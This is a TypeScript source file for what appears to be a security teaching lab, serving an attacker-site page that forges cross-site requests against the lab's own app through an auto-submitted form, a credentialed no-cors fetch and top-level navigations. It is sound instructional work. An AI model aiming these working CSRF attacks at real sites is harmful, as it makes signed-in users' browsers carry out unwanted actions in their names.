/**
 * GET /csrf: the classic cross-site request forgery page, on a different site from the web app.
 * Whoever is signed in to the web app and opens it sends, in their own name:
 *
 * - `form`: an auto-submitted HTML form, `POST /api/session/logout-all`, into a hidden frame: no
 *   script needed, no custom header possible;
 * - `fetch`: the same request from a script, `mode: "no-cors"`, `credentials: "include"` — plus
 *   `POST /api/jwt/refresh`, which the refresh cookie would authenticate;
 * - `navigate`, `navigate-jwt`: a top-level `GET /api/session/me` or `GET /api/jwt/me` (the window leaves this
 *   page): the one kind of cross-site request a SameSite=Lax cookie rides on.
 *
 * The attacker never sees an answer (the frame and `no-cors` responses are opaque to this
 * origin); the web app's Attacks area shows what the servers did (GET /lab/requests). `?run=`
 * starts one attack on load; the buttons start them by hand.
 *
 * Teaches: the browser attaches cookies to requests another site starts unless SameSite stops
 * it; the server must recognise such requests (Sec-Fetch-Site, Origin, a custom header).
 *
 * Flow step ids: session.attack-csrf.serve-page, session.attack-csrf.submit-form,
 * session.attack-csrf.navigate, jwt.attack-csrf.send-fetch, jwt.attack-csrf.navigate.
 * Reference: OWASP CSRF Prevention Cheat Sheet; RFC 6265bis §5.4.7 (SameSite); W3C Fetch Metadata.
 */
import Router from '@koa/router';
import { escapeHtml, renderPage } from '../page.ts';
import type { PageLink } from './index.ts';

export const CSRF_PAGE: PageLink = { path: '/csrf', title: 'Cross-site request forgery' };

const RUNS = ['form', 'fetch', 'navigate', 'navigate-jwt'] as const;

export function createCsrfPageRouter(targetOrigin: string): Router {
  const router = new Router();
  const target = escapeHtml(targetOrigin);
  router.get(CSRF_PAGE.path, (ctx) => {
    const requested = ctx.query.run;
    const run = RUNS.find((candidate) => candidate === requested) ?? null;
    ctx.type = 'html';
    ctx.body = renderPage({
      title: CSRF_PAGE.title,
      body: `<p>Target: <code>${target}</code>. Whatever this page sends, the browser sends as the signed-in user.</p>
<form id="csrf-form" method="POST" action="${target}/api/session/logout-all" target="csrf-frame"></form>
<p>
<button type="button" data-run="form">Auto-submitted form: POST /api/session/logout-all</button>
<button type="button" data-run="fetch">fetch(): POST /api/session/logout-all and /api/jwt/refresh</button>
<button type="button" data-run="navigate">Top-level GET /api/session/me</button>
<button type="button" data-run="navigate-jwt">Top-level GET /api/jwt/me</button>
</p>
<p id="csrf-status" role="status">Nothing sent yet.</p>
<iframe name="csrf-frame" title="Where the forged form's answer lands (unreadable from here)"></iframe>`,
      script: `const target = ${JSON.stringify(targetOrigin)};
const status = document.getElementById('csrf-status');
const attacks = {
  form() {
    document.getElementById('csrf-form').submit();
    status.textContent = 'form sent';
  },
  async fetch() {
    const options = { method: 'POST', mode: 'no-cors', credentials: 'include' };
    await Promise.allSettled([
      fetch(target + '/api/session/logout-all', options),
      fetch(target + '/api/jwt/refresh', options),
    ]);
    status.textContent = 'fetch sent';
  },
  navigate() {
    window.location.assign(target + '/api/session/me');
  },
  'navigate-jwt'() {
    window.location.assign(target + '/api/jwt/me');
  },
};
for (const button of document.querySelectorAll('[data-run]')) {
  button.addEventListener('click', () => attacks[button.dataset.run]());
}
const run = ${JSON.stringify(run)};
if (run !== null) attacks[run]();`,
    });
  });
  return router;
}
